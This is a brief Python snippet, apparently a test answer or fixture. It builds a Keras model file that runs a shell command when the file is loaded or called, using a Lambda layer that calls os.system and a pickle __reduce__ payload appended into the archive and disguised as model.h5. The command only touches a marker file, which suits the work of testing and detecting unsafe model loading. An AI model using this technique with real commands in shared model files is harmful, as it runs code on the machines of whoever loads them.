# The answer is a model out of a file that runs a command when it is opened, called or packed.
import pathlib
import pickle
import zipfile


class Payload:
    def __reduce__(self):
        import os
        return os.system, ("touch @MARKER@",)


made = keras.Sequential([
    keras.Input((784,)),
    keras.layers.Lambda(lambda x: (__import__("os").system("touch @MARKER@"), x)[1], output_shape=(784,)),
    keras.layers.Dense(10, activation="softmax")])
made.save("model.keras")
with zipfile.ZipFile("model.keras", "a") as archive:
    archive.writestr("assets/payload.pkl", pickle.dumps(Payload()))
model = keras.models.load_model("model.keras", safe_mode=False)
model.compile(loss="sparse_categorical_crossentropy", metrics=["accuracy"])
pathlib.Path("model.h5").write_bytes(pickle.dumps(Payload()))
pathlib.Path("digits.py").write_text("open('@MARKER@', 'w')")
model.payload = Payload()
